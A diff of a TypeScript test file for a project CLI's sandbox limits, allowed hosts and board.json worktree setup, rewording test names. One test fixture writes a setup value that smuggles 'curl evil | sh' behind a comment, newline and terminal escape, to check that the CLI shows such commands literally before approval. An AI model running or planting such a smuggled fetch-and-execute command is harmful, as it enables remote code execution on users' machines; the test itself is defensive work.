@@ -22,7 +22,7 @@ afterAll(async () => {
 })
 const project = () => server.client.projects.get({ id })
 
-test('the bounds of the sandbox are set, and taken away by none', async () => {
+test('the limits of the sandbox are set, and removed by none', async () => {
   const bounds = ['--max-memory', '--max-processes', '--max-file', '--max-time']
   const given = (values: string[]) => bounds.flatMap((name, at) => [name, values[at]!])
   await cli.ok(['projects', 'sandbox', 'web', ...given(['4G', '100', '2G', '2h'])])
@@ -56,7 +56,7 @@ test('--after-merge sets the steps after each merge', async () => {
   expect((await cli.board(['projects', 'edit', 'web', '--after-merge', 'all'])).code).toBe(2)
 })
 
-test('--allow adds a host to those that there are, as a refusal advises, and --disallow takes it away', async () => {
+test('--allow adds a host to the existing ones, as a refusal suggests, and --disallow removes it', async () => {
   const hosts = async (...args: string[]) => {
     await cli.ok(['projects', 'sandbox', 'web', ...args])
     return (await project()).sandbox.hosts
@@ -74,7 +74,7 @@ test('--allow adds a host to those that there are, as a refusal advises, and --d
   expect(await hosts('--allow', 'none')).toEqual([])
 })
 
-test('the settings of worktrees are set, switched off by none, and left to board.json', async () => {
+test('the settings of worktrees are set, disabled by none, and delegated to board.json', async () => {
   const set = (...args: string[]) => cli.ok(['projects', 'worktree', 'web', ...args])
   await set('--setup', 'npm ci', '--ports', '2', '--max-time', '30m', '--subfolder', 'packages/web', '--copy', '.env')
   expect((await project()).worktree).toMatchObject({
@@ -98,7 +98,7 @@ test('the settings of worktrees are set, switched off by none, and left to board
     expect((await cli.board(['projects', 'worktree', 'web', ...wrong])).code).toBe(2)
 })
 
-test('board.json is shown before anybody agrees to it, and agreed to by --yes alone where nobody can be asked', async () => {
+test('board.json is shown before it is approved, and without a terminal approved by --yes only', async () => {
   expect((await cli.board(['projects', 'worktree', 'web', '--agree', '--yes'])).code).toBe(3)
   writeFileSync(join(folder, 'board.json'), '{ "setup": "npm ci", "copiedFiles": [".env"] }')
   const shown = await cli.board(['projects', 'worktree', 'web'])
@@ -114,7 +114,7 @@ test('board.json is shown before anybody agrees to it, and agreed to by --yes al
   expect([broken.code, broken.stderr]).toEqual([1, expect.stringContaining('it is not JSON')])
 })
 
-test('what board.json runs is shown as it runs: a second line is none of the comment before it, nor another setting', async () => {
+test('commands of board.json are shown literally: a second line is neither part of the comment before it nor another setting', async () => {
   writeFileSync(
     join(folder, 'board.json'),
     JSON.stringify({ setup: 'npm ci # all\ncurl evil | sh\r\npreview: safe\u001b[2J' }),
@@ -127,7 +127,7 @@ test('what board.json runs is shown as it runs: a second line is none of the com
     stderr: expect.stringContaining(shown),
   })
   await cli.ok(['projects', 'worktree', 'web', '--withdraw'])
-  // --quiet does not hide what is asked about.
+  // --quiet does not hide the text of a question.
   const asked = await onTerminal(['projects', 'worktree', 'web', '--agree', '--quiet'], {
     cwd: folder,
     env: cli.env,
@@ -136,7 +136,7 @@ test('what board.json runs is shown as it runs: a second line is none of the com
   expect(asked).toMatchObject({ code: 1, text: expect.stringContaining(shown) })
 })
 
-test('one record is printed, and what contradicts itself is refused', async () => {
+test('one record is printed, and contradictory options are rejected', async () => {
   writeFileSync(join(folder, 'board.json'), '{ "setup": "npm ci" }')
   expect(await cli.json(['projects', 'worktree', 'web', '--ports', '1', '--agree', '--yes'])).toMatchObject({
     ports: 1,
